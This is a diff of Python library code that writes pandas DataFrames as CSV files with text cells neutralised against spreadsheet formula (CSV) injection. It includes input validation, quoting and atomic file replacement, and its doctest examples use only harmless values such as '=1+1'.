+    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
+
+    Examples
+    --------
+    >>> import pandas as pd
+    >>> df = pd.DataFrame({"answer": ["=1+1", "ok", "-2"], "n": [-3, 4, 5]})
+    >>> spreadsheet_safe_frame(df)
+      answer  n
+    0  '=1+1 -3
+    1     ok  4
+    2     -2  5
+    """
+    import pandas as pd
+
+    if not isinstance(frame, pd.DataFrame):
+        raise InvalidTypeError(
+            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
+        )
+    out = frame.copy()
+    for position in range(out.shape[1]):
+        column = out.iloc[:, position]
+        if column.dtype.kind in "biufcmM":  # numbers, booleans, dates: never formulas
+            continue
+        cells = [spreadsheet_safe(v) for v in column.to_numpy(dtype=object)]
+        # Same dtype, so that missing values stay as they were (None, NaN, <NA>).
+        out.isetitem(position, pd.Series(cells, index=out.index, dtype=column.dtype))
+    out.columns = pd.Index([_safe_label(c) for c in out.columns], tupleize_cols=False)
+    out.index = pd.Index([_safe_label(i) for i in out.index], tupleize_cols=False)
+    return out
+
+
+def _csv_value(value: Any) -> Any:
+    """One cell for the csv module: numbers as numbers, missing as empty, text neutralised."""
+    import pandas as pd
+
+    if value is None or value is pd.NA or value is pd.NaT:
+        return ""
+    if isinstance(value, np.generic):
+        value = value.item()
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, float):
+        if math.isnan(value):
+            return ""
+        if math.isinf(value):  # "-inf" would be read as a formula: write it as text
+            return spreadsheet_safe(str(value))
+        return value
+    if isinstance(value, int):
+        return value
+    if isinstance(value, numbers.Real):  # Decimal, Fraction: exact text, not a float
+        return str(value)
+    return spreadsheet_safe(value if isinstance(value, str) else str(value))
+
+
+def write_safe_csv(
+    frame: pd.DataFrame,
+    path: str | os.PathLike[str],
+    *,
+    sep: str = ",",
+    encoding: str = "utf-8-sig",
+    index: bool = False,
+) -> Path:
+    """Write a DataFrame as CSV that a spreadsheet can open without running formulas.
+
+    Text cells and labels are neutralised with :func:`spreadsheet_safe`; every text
+    field is quoted (RFC 4180), numbers are written as numbers, missing values as empty
+    cells. The file is written beside `path` under a temporary name and renamed into
+    place: an interrupted run leaves no partial file.
+
+    Parameters
+    ----------
+    frame : pandas.DataFrame
+        The table.
+    path : path
+        The CSV file to write (replaced if it exists).
+    sep : str, default ","
+        Field separator; ``";"`` is what a French Excel opens directly.
+    encoding : str, default "utf-8-sig"
+        UTF-8 with a byte-order mark, which Excel needs to read accents.
+    index : bool, default False
+        Whether to write the index as a first column.
+
+    Returns
+    -------
+    pathlib.Path
+        The file written.
+
+    Raises
+    ------
+    InvalidTypeError
+        `frame` is not a DataFrame, `index` not a boolean.
+    InvalidValueError
+        A `sep` that is not one character other than a quote or a line break, an
+        `encoding` Python does not know or that cannot write the table's text.
+
+    References
+    ----------
+    .. [1] OWASP, "CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection
+    .. [2] Y. Shafranovich, "Common Format and MIME Type for Comma-Separated Values
+       (CSV) Files", RFC 4180, 2005.
+
+    Examples
+    --------
+    >>> import pandas as pd, pathlib, tempfile
+    >>> df = pd.DataFrame({"answer": ["=1+1", "-3"], "n": [-3, 4]})
+    >>> path = write_safe_csv(df, pathlib.Path(tempfile.mkdtemp()) / "t.csv")
+    >>> print(path.read_text("utf-8-sig"), end="")
+    "answer","n"
+    "'=1+1",-3
+    "-3",4
+    """
+    import codecs
+    import csv
+    import tempfile
+
+    import pandas as pd
+
+    if not isinstance(frame, pd.DataFrame):
+        raise InvalidTypeError(
+            f"`frame` must be a pandas DataFrame; got {_show(frame)} ({type(frame).__name__})."
+        )
+    if not isinstance(sep, str) or len(sep) != 1 or sep in '"\r\n':
+        raise InvalidValueError(
+            f"`sep` must be one character other than a quote or a line break, such as ',' "
+            f"or ';'; got {_show(sep)}."
+        )
+    if not isinstance(index, bool | np.bool_):
+        raise InvalidTypeError(f"`index` must be True or False; got {_show(index)}.")
+    try:
+        codecs.lookup(encoding)
+    except (LookupError, TypeError):
+        raise InvalidValueError(
+            f"`encoding` must be an encoding Python knows, such as 'utf-8-sig'; "
+            f"got {_show(encoding)}."
+        ) from None
+    target = Path(path)
+    header = [_csv_value(c if isinstance(c, str) else str(c)) for c in frame.columns]
+    if index:
+        header.insert(0, _csv_value(str(frame.index.name or "")))
+    handle, staging = tempfile.mkstemp(prefix=f".{target.name}-", dir=target.parent or ".")
+    try:
+        with os.fdopen(handle, "w", encoding=encoding, newline="") as out:
+            writer = csv.writer(out, delimiter=sep, quoting=csv.QUOTE_NONNUMERIC,
+                                lineterminator="\r\n")  # fmt: skip
+            writer.writerow(header)
+            values = frame.to_numpy(dtype=object)
+            labels = list(frame.index)
+            for position, row in enumerate(values):
+                cells = [_csv_value(v) for v in row]
+                if index:
+                    cells.insert(0, _csv_value(labels[position]))
+                writer.writerow(cells)
+        os.replace(staging, target)
+    except UnicodeEncodeError as exc:
+        Path(staging).unlink(missing_ok=True)
+        raise InvalidValueError(
+            f"`encoding` {encoding!r} cannot write the character {exc.object[exc.start]!r} of "
+            f"the table; use 'utf-8-sig'."
+        ) from None
+    except BaseException:
+        Path(staging).unlink(missing_ok=True)
+        raise
+    return target
